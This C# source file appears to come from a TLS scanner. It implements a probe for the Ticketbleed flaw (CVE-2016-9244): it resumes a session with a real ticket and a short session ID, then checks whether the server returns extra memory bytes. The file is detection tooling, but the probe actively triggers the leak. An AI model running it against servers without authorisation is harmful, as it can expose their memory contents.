using System.Collections.Immutable;
using Sallyport.Observations;
using Sallyport.Wire.Tls;
using Sallyport.Wire.Tls.Client;

namespace Sallyport.Probes.Tls.Attacks;

/// <summary>Comes back with a real ticket and a short session id (CVE-2016-9244): who returns more bytes than were sent returns memory.</summary>
internal sealed class TicketbleedProbe(AttackLine line, AttackHello hello, TlsObservation seen)
{
    private const int SessionIdSize = 16;
    private const int Rounds = 3;
    private static readonly AttackQuestion Question = new(AttackPurpose.Ticketbleed, AttackForm.ShortSessionId);

    internal async Task<AttackExchange[]> AskAsync()
    {
        ImmutableArray<byte> ticket = [];
        var fetched = await line.EstablishedAsync(Question, Options(), (tls, _) => Task.FromResult(Keep(tls, out ticket)));
        if (ticket.IsEmpty) return [fetched];

        var first = await ComeBackAsync(ticket, fetched.Suite!.Value, 0);
        if (first.Outcome is not AttackOutcome.SessionIdReturned { BeginsAsSent: true } returned || returned.Returned <= returned.Sent) return [first];

        return [first, .. await Task.WhenAll(Enumerable.Range(1, Rounds - 1).Select(round => ComeBackAsync(ticket, fetched.Suite!.Value, round)))];
    }

    /// <summary>What needs no connection: a ticket that was come back with beside a short session id already, or a server that gave none when it was asked for one.</summary>
    internal AttackExchange? Known() => AlreadySeen() ?? (Gives(seen) ? null : Question.Spared("no session ticket was given"));

    /// <summary>False when handshakes up to TLS 1.2 were made and none gave a ticket.</summary>
    internal static bool Gives(TlsObservation seen) => !seen.Handshakes.Any(IsOld) || seen.Handshakes.Any(handshake => IsOld(handshake) && !handshake.Tickets.IsEmpty);

    /// <summary>A server that leaks breaks the resumption off for the client; only one carried to its end is an answer here.</summary>
    private AttackExchange? AlreadySeen() =>
        seen.Resumptions.FirstOrDefault(trial => trial is { Way: ResumptionWay.Ticket, Handshake.IsComplete: true })?.Handshake is { } back
            ? Question.Answered(back.Version, back.Suite, new AttackOutcome.SessionIdReturned(SessionIdSize, back.SessionIdLength, back.Resumed))
            : null;

    private static bool IsOld(HandshakeObservation handshake) => handshake.IsComplete && handshake.Version <= ProtocolVersion.Tls12;

    private TlsClientOptions Options() => new() { ServerName = hello.ServerName, Versions = [hello.Version] };

    private static AttackOutcome Keep(EstablishedTls tls, out ImmutableArray<byte> ticket)
    {
        ticket = TicketIn(tls.Facts.ServerMessages.AsSpan());
        if (ticket.IsEmpty) return new AttackOutcome.NotPossible("no session ticket was given");
        if (ticket.Length <= ResumableSession.LongestTicket) return new AttackOutcome.NotReached("the ticket was not used");

        ticket = [];
        return new AttackOutcome.NotPossible("the session ticket is too long for a hello");
    }

    private static ImmutableArray<byte> TicketIn(ReadOnlySpan<byte> messages)
    {
        while (HandshakeMessage.Read(messages) is { IsOk: true } message)
        {
            if (message.Value.Type == HandshakeType.NewSessionTicket) return NewSessionTicketView.ReadTls12(message.Value.Body) is { IsOk: true } ticket ? [.. ticket.Value.Ticket] : [];

            messages = messages[message.Consumed..];
        }

        return [];
    }

    private Task<AttackExchange> ComeBackAsync(ImmutableArray<byte> ticket, CipherSuite suite, int round)
    {
        var sessionId = Randomness.Bytes(SessionIdSize);
        var back = hello with { Suites = [suite], SessionId = sessionId, More = [HelloExtension.SessionTicket(ticket.AsSpan())] };
        return line.PlainAsync(Question with { Round = round }, back, HandshakeType.ServerHello, (handshake, _) => Task.FromResult<AttackOutcome>(new AttackOutcome.SessionIdReturned(
            SessionIdSize, handshake.SessionId.Length, handshake.SessionId.AsSpan().StartsWith(sessionId.AsSpan()))));
    }
}
